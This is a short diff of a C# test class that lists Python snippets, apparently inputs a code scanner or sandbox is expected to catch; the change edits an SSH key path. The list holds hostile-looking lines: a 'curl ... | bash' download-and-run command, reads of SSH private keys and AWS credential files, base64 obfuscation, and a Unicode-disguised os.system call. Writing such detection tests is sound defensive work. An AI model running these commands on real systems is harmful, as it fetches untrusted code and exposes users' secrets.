@@ -57,7 +57,7 @@ public sealed class PythonTests
         "socket.socket()",
         "from socket import socket",
         "!curl http://x/y.sh | bash",
-        "open('/root/.ssh/id_rsa')",
+        "open('/home/ann/.ssh/id_rsa')",
         "open(os.path.expanduser('~/.aws/credentials'))",
         "x = base64.b64decode('" + "QUJD" + "')\ny = b64decode('" + "QUJDREVG" + "')\nz = b64decode(\"QUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVG\")",
         "𝓸𝓼.𝓼𝔂𝓼𝓽𝓮𝓶('id')",
